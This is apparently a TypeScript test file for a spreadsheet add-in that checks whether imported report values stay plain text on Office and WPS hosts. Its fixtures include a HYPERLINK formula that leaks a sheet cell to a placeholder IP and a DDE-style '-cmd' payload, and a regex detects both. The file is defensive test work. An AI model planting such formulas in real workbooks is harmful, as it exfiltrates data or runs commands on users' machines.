/**
 * A value that comes from a file and lands in a cell is text, never a formula (issue 25, point 1):
 * 导入报告 and 上年结转 into a workbook without the template insert it and write the source's
 * 机关名称, on every Office profile (the .xlsx insert and the ExcelApi 1.7 build) and on WPS; the
 * 封面 fields, cells, sections and register rows of a confirmed import stay text as well.
 */
import ExcelJS from "exceljs";
import type { Report } from "../../src/report";
import { emptyReport } from "../../src/report/empty";
import type { WorkbookPort } from "../../src/workbook/port";
import type { FakeWorkbookModel } from "../../src/workbook/memory/model";
import { confirmWrites } from "../../src/workflow/transfer";
import { readSource } from "../../src/pane/transferModule";
import { prepare } from "../../src/workflow/transferPreview";
import { ledgerImportWrites, previewImport, registerSources } from "../../src/workflow/registerImport";
import { templateLayout, META_KEYS } from "../../src/template/layout";
import { parseRect } from "../../src/template/address";
import { fakeWithPort, hasApi, PROFILES, saveXlsx, sheetOf, templateBytes } from "../template/support";
import { wpsWithPort } from "../hosts/wps/support";

/** Shows a harmless name, sends 表三 out when the cell is a live formula. */
const EVIL = `=HYPERLINK("http://203.0.113.9/?leak="&'表三'!D5,"平潭某局")`;
const EVIL_TEXT = "=1+1";
const EVIL_CONTACT = "@SUM(1)";

const layout = templateLayout();
const cellOf = (key: string) => parseRect(layout.cells.get(key)!.address);

interface Host {
  name: string;
  make(): Promise<{ port: WorkbookPort; model(): FakeWorkbookModel; settle(): Promise<void> }>;
}

const HOSTS: Host[] = [
  ...PROFILES.filter((p) => hasApi(p, "1.7")).map((profile) => ({
    name: `Office ${profile}`,
    async make() {
      const s = await fakeWithPort({ profile });
      return { port: s.port as WorkbookPort, model: () => s.fake.workbook, settle: async () => undefined };
    },
  })),
  {
    name: "WPS",
    async make() {
      const s = await wpsWithPort();
      return { port: s.port as unknown as WorkbookPort, model: () => s.fake.workbook, settle: () => s.fake.settle() };
    },
  },
];

/** Every formula in the workbook that mentions what the attacker wrote. */
function planted(m: FakeWorkbookModel): string[] {
  const out: string[] = [];
  for (const name of m.sheetNames()) {
    const sheet = m.sheet(name)!;
    const { rows, cols } = m.usedSize(sheet);
    for (let r = 1; r <= rows; r++) {
      for (let c = 1; c <= cols; c++) {
        if (!m.isFormula(sheet, r, c)) continue;
        const f = String(m.formula(sheet, r, c));
        if (/HYPERLINK|203\.0\.113|1\+1|SUM\(1\)/i.test(f)) out.push(`${name}!R${r}C${c}: ${f}`);
      }
    }
  }
  return out;
}

function evilReport(year: number): Report {
  const r = emptyReport("2021", { agency: EVIL, year });
  r.meta.contact = EVIL_CONTACT;
  r.cells["T3.R01.C1"] = 3;
  r.sections.S1 = { heading: "一、总体情况", text: `${EVIL_TEXT}\n第二段` };
  return r;
}

/** A filled template .xlsx whose 封面 holds the formula as text (what an attacker would send). */
async function evilXlsx(): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(await templateBytes()) as unknown as ArrayBuffer);
  const a = layout.cells.get(META_KEYS.agency)!;
  const y = layout.cells.get(META_KEYS.year)!;
  sheetOf(wb, "封面").getCell(a.address).value = EVIL;
  sheetOf(wb, "封面").getCell(y.address).value = 2024;
  return saveXlsx(wb);
}

describe.each(HOSTS)("$name", (host) => {
  test.each(["import", "rollForward"] as const)("%s into a workbook without the template: 机关名称 stays text", async (mode) => {
    const h = await host.make();
    const source = mode === "import" ? evilReport(2024) : evilReport(2023);
    const preview = prepare({ mode, source: { report: source, label: "x" }, findings: [], current: null, template: null, defaultYear: 2024 });
    expect(preview.insertFirst?.agency).toBe(EVIL);
    const out = await h.port.insertTemplate(preview.insertFirst!);
    if (out.kind === "unsupported") return; // this profile opens the template file instead (tested below)
    expect(out.kind).toBe("inserted");
    await h.settle();
    const m = h.model();
    const a = cellOf(META_KEYS.agency);
    expect(m.isFormula(m.sheet("封面")!, a.top, a.left)).toBe(false);
    expect(m.value(m.sheet("封面")!, a.top, a.left)).toBe(EVIL);
    expect(planted(m)).toEqual([]);
    const read = await h.port.readReport();
    expect(read.report!.meta.agency).toBe(EVIL);

    // The rest of the import: cells, 联系方式 and the section text, confirmed.
    const again = prepare({ mode, source: { report: source, label: "x" }, findings: [], current: read.report!, template: read.template ?? null, defaultYear: 2024 });
    const meta = again.metaFills.map((f) => f.field);
    const { write } = confirmWrites(again, new Set([...again.plan.conflicts.map((c) => c.key), ...again.plan.sectionConflicts.map((c) => c.key)]));
    expect((await h.port.writeInputs(write)).kind).toBe("written");
    await h.settle();
    expect(planted(h.model())).toEqual([]);
    const after = (await h.port.readReport()).report!;
    if (meta.includes("contact")) expect(after.meta.contact).toBe(EVIL_CONTACT);
    if (mode === "import") expect(after.sections.S1?.text.split("\n")[0]).toBe(EVIL_TEXT);
  });

  test("a register row with formula-looking text is written as text", async () => {
    const h = await host.make();
    const ins = await h.port.insertTemplate({ year: 2024, agency: "某局" });
    if (ins.kind === "unsupported") return;
    await h.settle();
    const read = await h.port.readReport();
    const src = registerSources("登记.xlsx", [
      {
        name: "登记",
        rows: [
          ["编号", "收到日期", "申请人类型", "申请人", "申请内容", "办理结果", "答复日期"],
          ["=1+1", "2024-03-01", "自然人", EVIL, "-cmd|' /C calc'!A0", "予以公开", "2024-03-10"],
        ],
      },
    ]);
    if ("error" in src) throw new Error(src.error);
    const preview = previewImport(src, read.report!, read.template ?? null);
    expect(preview.canConfirm).toBe(true);
    const plan = preview.plan;
    const { write } = ledgerImportWrites(plan);
    expect((await h.port.writeInputs(write)).kind).toBe("written");
    await h.settle();
    expect(planted(h.model())).toEqual([]);
  });
});

test("an .xlsx whose 封面 holds a formula as text is read as that text and inserted as text", async () => {
  const src = await readSource({ name: "evil.xlsx", data: await evilXlsx() });
  expect(src.ok).toBe(true);
  if (!src.ok) return;
  expect(src.source.report.meta.agency).toBe(EVIL);
  const h = await HOSTS[0]!.make();
  const preview = prepare({ mode: "import", source: src.source, findings: [], current: null, template: null, defaultYear: 2024 });
  expect((await h.port.insertTemplate(preview.insertFirst!)).kind).toBe("inserted");
  expect(planted(h.model())).toEqual([]);
});
